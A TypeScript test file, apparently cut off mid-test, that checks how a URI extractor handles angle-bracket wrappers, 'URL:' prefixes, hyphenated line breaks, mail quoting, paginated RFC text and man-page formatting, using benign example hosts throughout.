/**
 * One test per delimiting rule (DESIGN.md "Delimiting rules", issue 3). Expectations hold
 * for the strict RFC 3986 core: `http://` with an empty host is invalid, IRIs are valid.
 */
import { describe, expect, test } from "vitest";
import { analyzeUri } from "../../src/core/analyze.js";
import { extractText } from "../../src/extract/extract-text.js";
import { mailtoUri } from "../../src/extract/fuzzy-address.js";
import { isRegisteredScheme, schemeStatus } from "../../src/extract/scheme-registry.js";
import { TextScanner } from "../../src/extract/text-scanner.js";
import type { ExtractOptions, Found } from "../../src/extract/types.js";

const uris = (text: string, options?: ExtractOptions) =>
  extractText(text, options).map((f) => f.uri);
const one = (text: string, options?: ExtractOptions) => {
  const found = extractText(text, options);
  expect(found).toHaveLength(1);
  return found[0]!;
};

/** the same records as extractText on the whole, whichever single byte the input is split at */
function expectRecordsAtEverySplit(text: string, step = 1): void {
  const bytes = Buffer.from(text);
  const whole = extractText(text);
  for (let cut = 1; cut < bytes.length; cut += step) {
    const found: Found[] = [];
    const sc = new TextScanner({}, (f) => found.push(f));
    sc.push(bytes.subarray(0, cut));
    sc.push(bytes.subarray(cut));
    sc.end();
    expect(found, `cut at ${cut}`).toEqual(whole);
  }
}

/** the same URIs whichever single byte the input is split at (two pushes to a TextScanner) */
function expectAtEverySplit(text: string, expected: string[]): void {
  const bytes = Buffer.from(text);
  for (let cut = 1; cut < bytes.length; cut++) {
    const got: string[] = [];
    const sc = new TextScanner({}, (f) => got.push(f.uri));
    sc.push(bytes.subarray(0, cut));
    sc.push(bytes.subarray(cut));
    sc.end();
    expect(got, `cut ${cut}`).toEqual(expected);
  }
}

describe("angle brackets (url-draft-1994 wrappers, 2396bis App. E)", () => {
  test("the URI runs to the next >, wrappers not part of it", () => {
    const f = one("see <http://example.com/a?b=c#d> now");
    expect(f).toMatchObject({
      uri: "http://example.com/a?b=c#d",
      delimiter: "angle",
      wrapped: false,
      raw: "<http://example.com/a?b=c#d>",
      start: 4,
      end: 32,
      line: 1,
      column: 5,
    });
  });

  test("whitespace inside is dropped: SP, HT, CR, LF", () => {
    const f = one("x <http://example.com/very/\r\n\t  long/path.html> y");
    expect(f.uri).toBe("http://example.com/very/long/path.html");
    expect(f.wrapped).toBe(true);
    expect(f.raw).toBe("<http://example.com/very/\r\n\t  long/path.html>");
    expect(one("<ftp://ds.internic. net/rfc/>").uri).toBe("ftp://ds.internic.net/rfc/");
  });

  test("mail quote markers at the start of a continuation line are dropped", () => {
    const text = "> see <http://lists.example.org/pipermail/uri/\n> 1997-May/000123.html>";
    const f = one(text);
    expect(f.uri).toBe("http://lists.example.org/pipermail/uri/1997-May/000123.html");
    expect(f.wrapped).toBe(true);
    expect(f.delimiter).toBe("angle");
    const deep = "> > see <http://lists.example.org/a/\n> > b/c.html> ok\n";
    expect(uris(deep)).toEqual(["http://lists.example.org/a/b/c.html"]);
    const packed = ">> see <http://lists.example.org/a/\n>>   b/c.html> ok\n";
    expect(uris(packed)).toEqual(["http://lists.example.org/a/b/c.html"]);
  });

  test("the opening line's comment or table leader is dropped where it repeats (found in real text)", () => {
    const text =
      " * See <https://x.example/very/long/\n *   path/file.html>\n" +
      "# see <https://x.example/a/\n#   b.html>\n// and <https://x.example/c/\n//   d.html>\n" +
      "> -- q <https://x.example/e/\n> --   f.html>\n" +
      // RFC 8890's table: "|  <https://httparchive.org/reports/state-of-the-" LF "|  web?…>"
      "      |  <https://x.example/state-of-the-\n      |  web?start=1>";
    expect(uris(text)).toEqual([
      "https://x.example/very/long/path/file.html",
      "https://x.example/a/b.html",
      "https://x.example/c/d.html",
      "https://x.example/e/f.html",
      "https://x.example/state-of-the-web?start=1",
    ]);
    // not when the opening line has none, a different one, or no blank follows it
    expect(
      uris("see <https://x.example/a/\n *   b.html> ;; x <https://x.example/c/\n;   d>"),
    ).toEqual(["https://x.example/a/*b.html", "https://x.example/c/;d"]);
    expectRecordsAtEverySplit(text);
  });

  test("a > at the start of a continuation line closes when the opening line is not quoted", () => {
    expect(uris("see <http://example.org/a/\n> and more\n")).toEqual(["http://example.org/a/"]);
  });

  test("no > within maxLength: the bare rules apply", () => {
    const f = one(`see <http://example.com/x ${"word ".repeat(50)}`, { maxLength: 64 });
    expect(f.uri).toBe("http://example.com/x");
    expect(f.delimiter).toBe("bare");
    expect(f.raw).toBe("http://example.com/x");
  });

  test("a blank line before > : the bare rules apply", () => {
    const found = extractText("see <http://example.com/x\n\nnext paragraph>");
    expect(found.map((f) => [f.uri, f.delimiter])).toEqual([["http://example.com/x", "bare"]]);
    expect(uris("see <http://example.com/x\n  \t\nnext>")).toEqual(["http://example.com/x"]);
  });

  test("wrapped says a line break was removed; spaces inside one line are dropped, not wrapped", () => {
    const [a, b] = extractText("<http://x.example/a b> <http://x.example/c\n d>");
    expect([a!.uri, a!.wrapped, b!.uri, b!.wrapped]).toEqual([
      "http://x.example/ab",
      false,
      "http://x.example/cd",
      true,
    ]);
  });

  test("a paginated RFC's page break inside <…>: footer, form feed and header skipped", () => {
    // RFC 8152's [DSS] reference, as the RFC corpus prints it
    const page =
      "\n\n\n\nSchaad                       Standards Track                   [Page 90]\n\f\n" +
      "RFC 8152        CBOR Object Signing and Encryption (COSE)      July 2017\n\n\n";
    const text = `   DOI 10.6028/NIST.FIPS.186-4, July 2013,\n   <http://nvlpubs.nist.gov/nistpubs/FIPS/${page}   NIST.FIPS.186-4.pdf>.\n`;
    const [f] = extractText(text);
    expect(f!.uri).toBe("http://nvlpubs.nist.gov/nistpubs/FIPS/NIST.FIPS.186-4.pdf");
    expect(f!.delimiter).toBe("angle");
    expect(f!.wrapped).toBe(true);
    expect(f!.raw.startsWith("<http://nvlpubs")).toBe(true);
    expect(f!.raw.endsWith("pdf>")).toBe(true);
    expect([f!.line, f!.column]).toEqual([2, 4]);
    expectRecordsAtEverySplit(text);
    // older RFCs: the form feed opens the header line; CRLF; an Internet-Draft's header
    expect(
      uris(
        "<http://a.example/b/\n\nX Y     [Page 3]\n\fRFC 2616   HTTP/1.1   June 1999\n\n c.html>",
      ),
    ).toEqual(["http://a.example/b/c.html"]);
    expect(
      uris(
        "<http://a.example/b/\r\n\r\nX Y  [Page 12]\r\n\f\r\nInternet-Draft   T   May 2020\r\n\r\n c>",
      ),
    ).toEqual(["http://a.example/b/c"]);
    // the footer's "[Page N]" is the evidence (session 39): a header of another form, or a
    // form feed a copy lost — then the footer and the header set in columns
    for (const paged of [
      "<http://a.example/b/\n\nX      [Page 3]\nRFC 2616      x\n\nc>",
      "<http://a.example/b/\n\nX [Page 3]\n\fSome heading\n\nc>",
    ]) {
      expect(uris(paged)).toEqual(["http://a.example/b/c"]);
    }
    // not a page break: no footer, a footer and header not in columns with no form feed (a
    // paragraph's "[Page 2]"), or a URI past maxLength — the blank line ends the search and
    // the bare rules read the first piece
    for (const broken of [
      "<http://a.example/b/\n\nnext paragraph\n\fRFC 1 x\n\nc>",
      "<http://a.example/b/\n\nX [Page three]\n\fRFC 2616 x\n\nc>",
      "<http://a.example/b/\n\nX [Page 3]\nRFC 2616 x\n\nc>",
      "<http://a.example/b/\n\nSee the notes [Page 2]\n\nHello world\nc> bar",
    ]) {
      expect(extractText(broken).map((r) => [r.uri, r.delimiter])).toEqual([
        ["http://a.example/b/", "bare"],
      ]);
    }
    // (the URI's own 57 bytes count against maxLength, not the page break's: session 53,
    // wrapped-span.ts — before, maxLength 100 refused it for the footer and header it spans)
    expect(extractText(text, { maxLength: 56 }).map((r) => [r.uri, r.delimiter])).toEqual([
      ["http://nvlpubs.nist.gov/nistpubs/FIPS/", "bare"],
    ]);
    expect(extractText(text, { maxLength: 57 }).map((r) => [r.uri, r.delimiter])).toEqual([
      ["http://nvlpubs.nist.gov/nistpubs/FIPS/NIST.FIPS.186-4.pdf", "angle"],
    ]);
    // in a quoted mail line the blank line still ends it
    expect(uris(`> <http://a.example/b/\n>\n> X  [Page 3]\n\f\n> RFC 1 x\n>\n> c>`)).toEqual([
      "http://a.example/b/",
    ]);
  });

  test("after dropping whitespace it must be one URI", () => {
    expect(uris("<Note: see below> and <this is not a uri>")).toEqual([]);
    expect(uris('<http://example.com/a"b>')).toEqual(["http://example.com/a"]);
  });

  test("RFC 8792 line folding with a backslash", () => {
    const text = "  <https://www.example.\\\n      org/cert.cer>\n";
    expect(uris(text)).toEqual(["https://www.example.org/cert.cer"]);
  });

  test("inside <…> a log field's rule does not apply (dpkg's package:arch, Apache's tags)", () => {
    // planted.test.ts found it: "news:all" then a line break read as "git:all" + a space
    expect(uris("<URL:news:all\nu dqs> see <news:all\nudqs>")).toEqual([
      "news:alludqs",
      "news:alludqs",
    ]);
    expect(uris("git:all y [proxy:error] x")).toEqual([]);
  });

  test("unregistered scheme inside <> without whitespace is kept", () => {
    expect(uris("<x-foo:bar/baz>")).toEqual(["x-foo:bar/baz"]);
  });

  test("a dotted name and a port inside <> are a host, not a scheme (KTextToHTML)", () => {
    expect(uris("<www.kde.org:1234/sub/path> <ftp.kde.org:21> <localhost:5001/foo>")).toEqual([
      "localhost:5001/foo",
    ]);
    expect(uris("<www.kde.org:1234/sub/path>", { fuzzy: true })).toEqual([
      "http://www.kde.org:1234/sub/path",
    ]);
    expectAtEverySplit("<a.example:80> <z39.50r://x.example/>", ["z39.50r://x.example/"]);
  });

  test("a line may end right after the scheme's colon (RFC 3986 App. C: the break is ignored)", () => {
    expect(uris("see <http:\n//example.com/a> now")).toEqual(["http://example.com/a"]);
    expect(uris("<mailto:\r\n  a@b.example>")).toEqual(["mailto:a@b.example"]);
    expect(uris("> see <http:\r\n> //h.example/p>")).toEqual(["http://h.example/p"]);
    expect(uris("<x-foo:\n//h/p>")).toEqual(["x-foo://h/p"]);
    const f = one("<http:\n//example.com/a>");
    expect(f).toMatchObject({ wrapped: true, delimiter: "angle", raw: "<http:\n//example.com/a>" });
    // but not a space on the same line, and an unregistered scheme still needs "//"
    expect(uris("<http: //example.com/a>")).toEqual([]);
    expect(uris("<Note:\nsee below>")).toEqual([]);
    expect(uris("Example:\nhttp://a.example/")).toEqual(["http://a.example/"]);
  });

  test("a line may end right after < or <URL: (a mailer breaks the line at the space)", () => {
    const f = one(
      "filesystem & then writing that, as noted here: <\nhttps://kb.example/Guide#x >. -",
    );
    expect(f).toMatchObject({
      uri: "https://kb.example/Guide#x",
      delimiter: "angle",
      wrapped: false,
      raw: "<\nhttps://kb.example/Guide#x >",
      start: 47,
      line: 1,
      column: 48,
    });
    const wrappedTail =
      "[1] <\nhttps://www.example.com/download/19435/ethernet-port-\nconfig.html\n>\n";
    expect(one(wrappedTail)).toMatchObject({
      uri: "https://www.example.com/download/19435/ethernet-port-config.html",
      wrapped: true,
      delimiter: "angle",
    });
    const url = one("<URL: \n   http://www.example.com/a/\n   b.html>");
    expect(url).toMatchObject({ uri: "http://www.example.com/a/b.html", delimiter: "url-prefix" });
    expect(uris("> see <\n> http://example.com/a/\n> b> x")).toEqual(["http://example.com/a/b"]);
    expect(uris("<url:\r\n  ftp://ftp.example.org/pub/\r\n  x.tar.gz>")).toEqual([
      "ftp://ftp.example.org/pub/x.tar.gz",
    ]);
    // prose: a "<" that ends a line opens no wrapper across spaces inside a line
    expect(uris("x = 1 <\nhttp://example.com/x is ok; y > 2")).toEqual(["http://example.com/x"]);
    expect(uris("a <\nhttp://example.com/x\nand more> c")).toEqual(["http://example.com/x"]);
    // an unregistered scheme without "//" stays text, and "<" LF "std::x>" is C++
    expect(uris("a <\nfoo:bar> b\nx <\nstd::vector> y")).toEqual([]);
    // a blank line between: no wrapper
    expect(extractText("<\n\nhttp://a.example/b c>").map((x) => x.delimiter)).toEqual(["bare"]);
    for (const text of [
      "see <\nhttp://example.com/a/\nb> x",
      "> <URL: \n> http://h.example/p\n> q>",
    ]) {
      expectAtEverySplit(text, uris(text));
      expect(uris(text)).toHaveLength(1);
    }
  });

  test("a scheme broken across lines inside <…> is joined (the line break is whitespace)", () => {
    const f = one("see <ht\ntp://example.com/a/b> x");
    expect(f).toMatchObject({
      uri: "http://example.com/a/b",
      wrapped: true,
      delimiter: "angle",
      raw: "<ht\ntp://example.com/a/b>",
      start: 4,
    });
    expect(uris("> see <mail\n> to:someone@example.org>")).toEqual(["mailto:someone@example.org"]);
    expect(uris("<URL:ht\n  tps://example.com/x>")).toEqual(["https://example.com/x"]);
    // the second piece is a registered scheme itself: it starts the URI
    expect(uris("a <b\nhttp://example.com/ c> d")).toEqual(["http://example.com/"]);
    // an unregistered join without "//" is none; CMake's "$<…>" is no wrapper; and when the
    // wrapper does not close as one URI, the piece after the break is no scheme ("tp://")
    expect(uris("<xy\nzz:abc>")).toEqual([]);
    expect(uris("$<ht\ntp://example.com/x> <ht\ntp://a.example/a b>")).toEqual([]);
    expectAtEverySplit("> see <ht\n> tp://example.com/a/\n> b> x", ["http://example.com/a/b"]);
  });

  test("a line broken right before the scheme's colon inside <…> is joined", () => {
    const f = one("see <http\n://example.com/a> x");
    expect(f).toMatchObject({
      uri: "http://example.com/a",
      wrapped: true,
      delimiter: "angle",
      raw: "<http\n://example.com/a>",
      start: 4,
    });
    expect(uris("<URL:https\r\n  ://example.org/x>")).toEqual(["https://example.org/x"]);
    // a space after "URL:" (url-draft-1994), not after a lone "<" (prose)
    expect(uris("<URL: http\n://a.example/b> <URL: ht\ntp://a.example/c>")).toEqual([
      "http://a.example/b",
      "http://a.example/c",
    ]);
    // (the bare rules join a scheme that fold(1) broke: "ht" LF "tp://…", not the wrapper)
    expect(extractText("x < ht\ntp://a.example/d> y").map((f) => f.delimiter)).toEqual(["bare"]);
    // no "<" before, one letter (a drive letter), or a wrapper that does not close as one URI
    expect(uris("text\n://x.org/ <C\n://x.org/> <http\n://a.example/a b>")).toEqual([]);
    expectAtEverySplit("> see <https\n> ://example.org/x/y> z", ["https://example.org/x/y"]);
  });
});

describe("URL: prefix (url-draft-1994)", () => {
  test.each([
    ["<URL:http://example.com/a>", "<URL:http://example.com/a>"],
    ["<URL: http://example.com/a>", "<URL: http://example.com/a>"],
    ["<url:http://example.com/a>", "<url:http://example.com/a>"],
    ["see URL:http://example.com/a.", "URL:http://example.com/a"],
    ["see URL: http://example.com/a.", "URL: http://example.com/a"],
    ["see Url: ftp://example.com/a", "Url: ftp://example.com/a"],
  ])("%s", (text, raw) => {
    const f = one(text);
    expect(f.uri).toBe(raw.includes("ftp") ? "ftp://example.com/a" : "http://example.com/a");
    expect(f.delimiter).toBe("url-prefix");
    expect(f.raw).toBe(raw);
  });

  test("CURL: is not the prefix", () => {
    expect(extractText("CURL:http://example.com/").map((f) => f.delimiter)).toEqual(["bare"]);
  });

  // "uri" is no registered scheme: "URI:" is a label, as OpenSSL prints a certificate's URI
  test.each([
    ["<URI:http://example.com/a>", "<URI:http://example.com/a>"],
    ["<uri: http://example.com/a>", "<uri: http://example.com/a>"],
    ["see URI:http://example.com/a.", "URI:http://example.com/a"],
    ["(URI:http://example.com/a)", "URI:http://example.com/a"],
  ])("URI: is read as the same label: %s", (text, raw) => {
    const f = one(text);
    expect(f.uri).toBe("http://example.com/a");
    expect(f.delimiter).toBe("url-prefix");
    expect(f.raw).toBe(raw);
  });

  test("uri:// is a URI of its own (an unregistered scheme with //)", () => {
    expect(uris("see uri://host/x now")).toEqual(["uri://host/x"]);
  });

  test("URI: before a URI without //", () => {
    expect(uris("<URI:urn:isbn:0451450523>")).toEqual(["urn:isbn:0451450523"]);
    expect(uris("uri:news:comp.lang.c")).toEqual(["news:comp.lang.c"]);
  });
});

describe("hyphen at a line break (2396bis App. E)", () => {
  const text = "See <http://www.example.org/draft-fielding-uri-\n   syntax-05.txt> now";
  const withHyphen = "http://www.example.org/draft-fielding-uri-syntax-05.txt";
  const without = "http://www.example.org/draft-fielding-urisyntax-05.txt";

  test("keep (default): uri keeps the hyphen, variants has the other reading", () => {
    const f = one(text);
    expect(f.uri).toBe(withHyphen);
    expect(f.variants).toEqual([without]);
    expect(f.wrapped).toBe(true);
  });

  test("drop: swapped", () => {
    const f = one(text, { hyphen: "drop" });
    expect(f.uri).toBe(without);
    expect(f.variants).toEqual([withHyphen]);
  });

  test("both: two records, each with the other in variants", () => {
    const found = extractText(text, { hyphen: "both" });
    expect(found.map((f) => [f.uri, f.variants])).toEqual([
      [withHyphen, [without]],
      [without, [withHyphen]],
    ]);
    expect(found[0]!.start).toBe(found[1]!.start);
  });

  test("keep or drop: the other reading when only it is a valid URI", () => {
    // "%4-" is no percent-encoding: the hyphen cannot be the URI's, whatever the mode
    const t = "see <http://a.exam%4-\n1ple.org/> ok";
    for (const hyphen of ["keep", "drop"] as const) {
      const f = one(t, { hyphen });
      expect([f.uri, f.variants]).toEqual([
        "http://a.exam%41ple.org/",
        ["http://a.exam%4-1ple.org/"],
      ]);
    }
  });

  test("no variant when the break is not after a hyphen", () => {
    expect(one("<http://example.org/a/\n b>").variants).toEqual([]);
  });

  test("an unwrapped URI goes on after a line break right after a hyphen", () => {
    // "the interpreter of a URI containing a line break immediately after a hyphen should
    // ignore all unescaped whitespace around the line break" — in running text too
    const text = "Ref: https://docs.example.com/build/dlls-statically-linked-\n  to-mfc now";
    expect(one(text)).toMatchObject({
      uri: "https://docs.example.com/build/dlls-statically-linked-to-mfc",
      variants: ["https://docs.example.com/build/dlls-statically-linkedto-mfc"],
      delimiter: "bare",
      wrapped: true,
      raw: "https://docs.example.com/build/dlls-statically-linked-\n  to-mfc",
      start: 5,
      line: 1,
      column: 6,
    });
    expect(one(text, { hyphen: "drop" }).uri).toBe(
      "https://docs.example.com/build/dlls-statically-linkedto-mfc",
    );
    // CRLF, mail quote markers, a host broken at its hyphen, trailing punctuation, brackets
    expect(
      uris(
        "a http://a.example/x-\r\n  y.html. b\n" +
          "> see http://lists.example.org/some-\n> thing.html\n" +
          "c https://www.ecma-\ninternational.org/, d\n" +
          "(see http://b.example/wiki/A-\nB_(c)).",
      ),
    ).toEqual([
      "http://a.example/x-y.html",
      "http://lists.example.org/some-thing.html",
      "https://www.ecma-international.org/",
      "http://b.example/wiki/A-B_(c)",
    ]);
  });

  test("…but not into a blank line, a list item, or a line that opens with a scheme or a field", () => {
    expect(
      uris(
        "a http://a.example/x-\n\nnext\n" +
          "b http://b.example/x-\n- item\n" +
          "c http://c.example/x-\n* item\n" +
          "d http://d.example/x-\n2. item\n" +
          "e http://e.example/x-\n  10) item\n" +
          "f http://f.example/x-\nhttp://g.example/\n" +
          "h http://h.example/x-\nNote: more\n" +
          "i http://i.example/x-\n  /etc/passwd\n" +
          "j http://j.example/x- \ny\n",
      ),
    ).toEqual([
      "http://a.example/x-",
      "http://b.example/x-",
      "http://c.example/x-",
      "http://d.example/x-",
      "http://e.example/x-",
      "http://f.example/x-",
      "http://g.example/",
      "http://h.example/x-",
      "http://i.example/x-",
      "http://j.example/x-",
    ]);
  });

  test("…and ends at the break when neither reading across it is a valid URI", () => {
    // "the hyphen may or may not actually be part of the URI": here it was the text's
    for (const options of [{}, { includeInvalid: true }, { hyphen: "both" as const }]) {
      const found = extractText("call tel:+1-\n  b now, or see https://www.ecma-\nb% ok", options);
      expect(found.map((f) => [f.uri, f.raw, f.wrapped, f.variants, f.end])).toEqual([
        ["tel:+1-", "tel:+1-", false, [], 12],
        // (a host's last "-" is the text's, as at any end of a host: RFC 1123 §2.1)
        ["https://www.ecma", "https://www.ecma", false, [], 45],
      ]);
    }
  });

  test("…also when the schemes allow-list leaves the cut URI out (found by review)", () => {
    const found = extractText("call tel:+1-\nb;mailto:x@y.org now\n", { schemes: ["mailto"] });
    expect(found.map((f) => f.uri)).toEqual(["mailto:x@y.org"]);
  });

  test("…and the next line is read again after that break: its URIs are found", () => {
    for (const t of [
      "Call tel:+1-\nb;mailto:x@y.org ok",
      "see tel:+1-\nb,mailto:x@y.org ok",
      "see tel:+1-\n  b%,mailto:x@y.org ok",
    ]) {
      expect(uris(t)).toEqual(["tel:+1-", "mailto:x@y.org"]);
    }
    // a URI read across the break is not read a second time
    expect(uris("see http://a.example/x-\ny?u=http://b.example/ ok")).toEqual([
      "http://a.example/x-y?u=http://b.example/",
    ]);
  });

  test("what the next line starts with decides whether the URI goes on (found by review)", () => {
    // a word and a colon go on unless the word is a field name (a blank follows) or a
    // registered scheme: a host's port, a URN's next part (RFC 7523), a wiki namespace
    expect(
      uris(
        "http://my-very-long-\nhost.example.com:8080/path urn:ietf:params:oauth:grant-\n" +
          "type:jwt-bearer see http://a.example/w/User_talk-\nTalk:Foo",
      ),
    ).toEqual([
      "http://my-very-long-host.example.com:8080/path",
      "urn:ietf:params:oauth:grant-type:jwt-bearer",
      "http://a.example/w/User_talk-Talk:Foo",
    ]);
    expect(
      uris("http://a.example/x-\nNote: see http://a.example/y-\nmailto:b@example.org"),
    ).toEqual(["http://a.example/x-", "http://a.example/y-", "mailto:b@example.org"]);
    // mail: a line quoted more or less deeply than the URI's is a reply or a quote, not the
    // URI's rest
    expect(uris("> see http://a.example/x-\nMy reply")).toEqual(["http://a.example/x-"]);
    expect(uris("see http://a.example/x-\n> quoted text")).toEqual(["http://a.example/x-"]);
    expect(uris("> see http://a.example/x-\n>> Bob wrote")).toEqual(["http://a.example/x-"]);
    expect(uris("> > see http://a.example/x-\n>> y.html ok")).toEqual([
      "http://a.example/x-y.html",
    ]);
    // numbered items and sections, at the end of the input too, and a log line's date
    // any scheme's "//" and a time open a line of their own too (found by review)
    expect(uris("see https://x.example/install-\ns3://my-bucket/data.csv")).toEqual([
      "https://x.example/install-",
      "s3://my-bucket/data.csv",
    ]);
    for (const next of [
      "2.",
      "10)",
      "1.2. Scope",
      "3) item",
      "2024-01-01 12:01 started",
      "12:00:01 INFO",
    ]) {
      expect(uris(`http://a.example/x-\n${next}`), next).toEqual(["http://a.example/x-"]);
    }
    for (const next of ["2", "3.5.tar.gz", "2024-01-01.tar.gz"]) {
      expect(uris(`http://a.example/x-\n${next}`), next).toEqual([`http://a.example/x-${next}`]);
    }
  });

  test("…after the URI's line's comment leader, repeated (found in real text)", () => {
    const text =
      " * see https://x.example/JavaScript/-\n * Reference/y ok\n# see https://x.example/a-\n# b.html\n" +
      "// see https://x.example/c-\n//   d.html\n- see https://x.example/e-\n  f.html ok";
    expect(uris(text)).toEqual([
      "https://x.example/JavaScript/-Reference/y",
      "https://x.example/a-b.html",
      "https://x.example/c-d.html",
      "https://x.example/e-f.html",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a block comment opened on the URI's line: its continuation lines' ' * ' is the comment's, not the URI's", () => {
    const text =
      "/* See <http://x.example/very/long/\n * path/continued.html> for details */\n" +
      "  /** see <https://x.example/a/\n   *   b.html>\n   */\n" +
      "/* see https://x.example/c/d-\n * e.html and\n */\n" +
      "/*see <https://x.example/f/\n *g>\n";
    expect(uris(text)).toEqual([
      "http://x.example/very/long/path/continued.html",
      "https://x.example/a/b.html",
      "https://x.example/c/d-e.html",
      // no blank after "/*": no comment leader read, and the "*" is the URI's
      "https://x.example/f/*g",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("…but a list's bullet, repeated, opens the next item: the URI ends at its hyphen", () => {
    // one "-", or one "*" after an even run of spaces (Markdown, a Debian changelog, a GNU
    // ChangeLog's TAB "* "), is a bullet; a doc comment's "*" stands one space past "/*"
    const text =
      "- see https://x.example/a-\n- Next item\n  * see https://x.example/b-\n  * Next\n" +
      "\t* see https://x.example/c-\n\t* Next\n> * see https://x.example/d-\n> * Next\n" +
      ">* see https://x.example/k-\n>* Next\n" +
      "    /**\n     * see https://x.example/e-\n     * f.html\n     */\n" +
      "\t * see https://x.example/g-\n\t * h.html\n-- see https://x.example/i-\n-- j.html\n";
    expect(uris(text)).toEqual([
      "https://x.example/a-",
      "https://x.example/b-",
      "https://x.example/c-",
      "https://x.example/d-",
      "https://x.example/k-",
      "https://x.example/e-f.html",
      "https://x.example/g-h.html",
      "https://x.example/i-j.html",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a host's hyphen at a line break the URI does not go on past is the text's", () => {
    expect(uris("http://example.org-\n\nNext http://example.net-\n- bullet")).toEqual([
      "http://example.org",
      "http://example.net",
    ]);
  });

  test("a run made too long by a hyphen's line break ends at that break", () => {
    const found = extractText(`see http://a.example/x-\n${"b".repeat(60)} ok`, { maxLength: 50 });
    expect(found.map((f) => [f.uri, f.end])).toEqual([["http://a.example/x-", 23]]);
  });

  test("the break after a hyphen is read alike for any chunking", () => {
    const text =
      "> see http://a.example/some-\r\n  > thing.html and 2. http://b.example/c-\r\n> 3. d\r\n" +
      "> see http://c.example/x-\r\n1999-12-31 log";
    const whole = extractText(text);
    expect(whole.map((f) => f.uri)).toEqual([
      "http://a.example/some-thing.html",
      "http://b.example/c-",
      "http://c.example/x-",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("man pages formatted for a UTF-8 terminal (groff)", () => {
  test("a URI hyphenated by the typesetter (U+2010, a soft hyphen) goes on without it", () => {
    const page =
      "API docs at: https://cloud.google.com/access-con\u2010\n       text-manager/docs/reference/rest/\n" +
      "see <https://www.kernel.org/doc/html/lat\u2010\n       est/filesystems/dax.html>.\n" +
      "and https://x.example/doc/lat\u00ad\n est/a.html now";
    const found = extractText(page);
    expect(found.map((f) => [f.uri, f.wrapped, f.variants])).toEqual([
      ["https://cloud.google.com/access-context-manager/docs/reference/rest/", true, []],
      ["https://www.kernel.org/doc/html/latest/filesystems/dax.html", true, []],
      ["https://x.example/doc/latest/a.html", true, []],
    ]);
    for (const f of found)
      expect(Buffer.from(page).subarray(f.start, f.end).toString()).toBe(f.raw);
    // not at a line's end, or before what is no continuation: the URI ends there
    expect(
      uris("see https://x.example/lat\u2010 est and https://x.example/b\u2010\n\nest"),
    ).toEqual(["https://x.example/lat", "https://x.example/b"]);
  });

  test("⟨…⟩ (groff's .UR link brackets) wrap a URI as <…> does", () => {
    const found = extractText(
      "       \u27e8http://www.gnu.org/software/libc/bugs.html\u27e9.\n" +
        "HTML \u27e8http://www.kohala.com/start/\n       troff/pic2html.html\u27e9 x",
    );
    expect(found.map((f) => [f.uri, f.wrapped, f.delimiter, f.raw.slice(0, 1)])).toEqual([
      ["http://www.gnu.org/software/libc/bugs.html", false, "angle", "\u27e8"],
      ["http://www.kohala.com/start/troff/pic2html.html", true, "angle", "\u27e8"],
    ]);
    // a closing bracket glued to a bare URI is the text's
    expect(uris("a http://x.example/a\u27e9 x")).toEqual(["http://x.example/a"]);
  });

  test("a scheme hyphenated at a line break inside ⟨…⟩ or <…> is joined without the hyphen (url(7))", () => {
    // groff hyphenates a long scheme like any word: "‹tel‐" LF "net://…⟩" gave the bare
    // "net://melvyl.ucop.edu/", "<tel-" LF "net://…>" (ASCII) the unregistered "tel-net:"
    const text =
      "An example is \u27e8tel\u2010\n       net://melvyl.ucop.edu/\u27e9.\n" +
      "An example is    <tel-\n       net://melvyl.ucop.edu/>.\n" +
      "see \u27e8ht\u2010\ntp://a.example/\u27e9 and <http-\n  s://b.example/> and \u27e8\nhttp://c.example/\u27e9\n" +
      // a hyphen that a registered scheme has not without it stays: "x-app" is one name
      "<go-\n  pher://ip_server/x> <x-\n  app://a/b>";
    const found = extractText(text);
    expect(found.map((f) => [f.uri, f.wrapped, f.delimiter])).toEqual([
      ["telnet://melvyl.ucop.edu/", true, "angle"],
      ["telnet://melvyl.ucop.edu/", true, "angle"],
      ["http://a.example/", true, "angle"],
      ["https://b.example/", true, "angle"],
      ["http://c.example/", false, "angle"],
      ["gopher://ip_server/x", true, "angle"],
      ["x-app://a/b", true, "angle"],
    ]);
    for (const f of found)
      expect(Buffer.from(text).subarray(f.start, f.end).toString()).toBe(f.raw);
    expectRecordsAtEverySplit(text);
    // a "⟨" that ended the line: only a line break's whitespace is dropped, as after "<" (review)
    expect(uris("inner product \u27e8\nhttp://x.example/a is here, and b\u27e9 done")).toEqual([
      "http://x.example/a",
    ]);
  });

  test("real URLs re-wrapped by fmt, fold and textwrap: breaks at the scheme's edges and inside '<URL:' (a probe of 4,653 URLs)", () => {
    // each gave nothing or a cut before: a break right after the scheme's ":" in "<URL:…>", a
    // break before the ":" of a scheme without "//", a break between "<" and "URL:", and a
    // bare scheme broken by fold(1) ("h" LF "ttps://…" gave a valid "ttps:" URI)
    const text =
      "a <URL:https:\n//example.org/ab\ncd> b <URL: https:\n//example.org/ef> c <URL:mailto:\nx@example.org>\n" +
      "d <urn\n:ietf:params:x> e <mailto\n:a@example.org> f <URL:news\n:comp.lang.c>\n" +
      "g <\nURL:http://example.org/gh\nij> h <\n  URL: http://example.org/kl> nodes h\nttps://m.example/n?id=1 x\n" +
      // no registered scheme joined, or a blank line: as written
      "<foo\n:bar> see\nttps://o.example/ <\n\nURL:http://p.example/q\nr>";
    expect(uris(text)).toEqual([
      "https://example.org/abcd",
      "https://example.org/ef",
      "mailto:x@example.org",
      "urn:ietf:params:x",
      "mailto:a@example.org",
      "news:comp.lang.c",
      "http://example.org/ghij",
      "http://example.org/kl",
      "https://m.example/n?id=1",
      "ttps://o.example/",
      "http://p.example/q",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("only a line break's whitespace between '<' and 'URL:' makes them a wrapper; blanks inside one line are prose's (the planted-URI test)", () => {
    // "< URL:http://aa" CRLF "=> next" gave http://aa=, "< URL:news:a" CRLF "x > y" news:ax:
    // the "<" was read as the wrapper's, the line break inside it dropped up to the ">"
    const text =
      "< URL:http://aa\r\n=> next\n< URL:news:a\r\nx > y\n" +
      "a <  URL: http://b.example/c\nd> e <\t URL:http://c.example/d\ne>\n" +
      // a line break, perhaps with blanks around it: the wrapper
      "f < \n URL:http://d.example/e\nf> g <\nURL:http://e.example/f\ng>\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
      ["http://aa", false],
      ["news:a", false],
      ["http://b.example/c", false],
      ["http://c.example/d", false],
